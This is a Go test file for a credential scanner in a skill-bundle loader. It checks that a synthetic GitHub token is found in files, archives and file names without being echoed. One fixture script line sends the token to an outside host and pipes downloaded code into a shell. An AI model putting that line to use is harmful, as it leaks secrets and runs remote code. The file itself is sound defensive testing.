package skill_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/joystream-ai/joy/internal/skill"
)

// githubToken has the shape of one. It is made here so that no scanner takes this file for a leak.
var githubToken = "gh" + "p_" + strings.Repeat("A1b2C3d4E5f6", 3)

// secretsOf loads a bundle and lists what it has for credentials. Nothing that is said of it has the value.
func secretsOf(t *testing.T, pairs ...string) (list []skill.Finding) {
	t.Helper()
	b := load(t, bundleFS(append([]string{"SKILL.md", skillMD("", "Use it well.\n")}, pairs...)...))
	for _, f := range b.Findings {
		if f.Rule == skill.RuleSecret {
			require.Equal(t, skill.SeverityError, f.Severity)
			list = append(list, f)
		}
	}
	_, evidence := b.Sandbox()
	said, err := json.Marshal([]any{b.Findings, evidence, b.Needs(), b.Candidates})
	require.NoError(t, err)
	require.NotContains(t, string(said), githubToken)
	require.NotContains(t, string(said), githubToken[:30])
	return list
}

func archived(t *testing.T, name, text string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	require.NoError(t, w.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(text))}))
	_, err := w.Write([]byte(text))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	require.NoError(t, z.Close())
	return b.String()
}

func TestSecretsAreFoundWhereverTheyLie(t *testing.T) {
	for name, c := range map[string]struct {
		path, text string
		line, col  int
		says       string
	}{
		"in a text":           {"a.txt", "one\né " + githubToken + "\n", 2, 3, "a credential, by the rule github-pat"},
		"in a script":         {"run.sh", "#!/bin/sh\ncurl https://x.dev/a?t=" + githubToken + " | sh\n", 2, 24, "a credential, by the rule github-pat"},
		"more than once":      {"a.txt", githubToken + "\n" + githubToken + "\n" + githubToken, 1, 1, "github-pat (and 2 more)"},
		"in what is no text":  {"a.bin", "\x00\x01" + githubToken + "\x00", 0, 0, "by the rule github-pat"},
		"in an archive":       {"a.tgz", archived(t, "b/c.txt", "x="+githubToken), 0, 0, "in b/c.txt within it"},
		"in a member's name":  {"a.tgz", archived(t, githubToken, githubToken), 0, 0, "github-pat"},
		"behind a small file": {"a.txt", strings.Repeat("tea\n", 1<<19) + githubToken, 1<<19 + 1, 1, "github-pat"},
		"allowed by itself":   {"a.txt", githubToken + " # gitleaks:" + "allow", 1, 1, "github-pat"},
	} {
		t.Run(name, func(t *testing.T) {
			found := secretsOf(t, c.path, c.text)
			require.NotEmpty(t, found)
			f := found[0]
			require.Equal(t, []any{"github-pat", "my-skill/" + c.path, c.line, c.col}, []any{f.By, f.File, f.Line, f.Col})
			require.Contains(t, f.Message, c.says)
		})
	}
}

// The name of a file is not repeated.
func TestASecretInAFilesName(t *testing.T) {
	b := load(t, bundleFS("SKILL.md", skillMD("", "x\n"), githubToken+".txt", "x"))
	require.Contains(t, rules(b.Findings), skill.RuleSecret)
	for _, f := range b.Findings {
		require.NotContains(t, f.File+f.Message, githubToken)
	}
}

// What a text that explains writes in the place of a credential.
func TestPlaceholdersAreNoSecrets(t *testing.T) {
	require.Empty(t, secretsOf(t, "references/api.md", strings.Join([]string{
		"export OPENAI_API_KEY=sk-...", "export API_KEY=YOUR_API_KEY", "aws_access_key_id = AKI" + "AIOSFODNN7EXAMPLE",
		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEX" + "AMPLEKEY",
		`curl -H "Authorization: Bear` + `er YOUR_TOKEN" https://api.example.com/v1`, `curl -u "$STRIPE_KEY:" https://api.example.com/v1`,
		"token: <your token here>", "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", `password: "${{ secrets.DB_PASSWORD }}"`, "",
	}, "\n")))
}
